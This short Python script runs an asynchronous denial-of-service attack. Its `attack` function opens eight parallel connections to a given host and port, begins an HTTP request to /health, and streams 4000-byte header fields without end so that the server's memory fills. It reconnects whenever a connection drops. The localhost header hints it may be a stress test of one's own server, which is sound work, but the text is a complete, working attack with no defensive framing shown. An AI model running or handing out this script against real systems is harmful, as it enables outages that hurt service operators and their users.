"""Headers without end, as fast as they are taken: they would fill the memory."""

import asyncio
from contextlib import suppress

CONNECTIONS = 8
FIELD = b"x-field: " + b"a" * 4000 + b"\r\n"


async def attack(host: str, port: int) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(b"GET /health HTTP/1.1\r\nhost: localhost\r\n")
                    while not writer.is_closing():
                        writer.write(FIELD)
                        await writer.drain()
                finally:
                    writer.close()
            await asyncio.sleep(0.2)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())
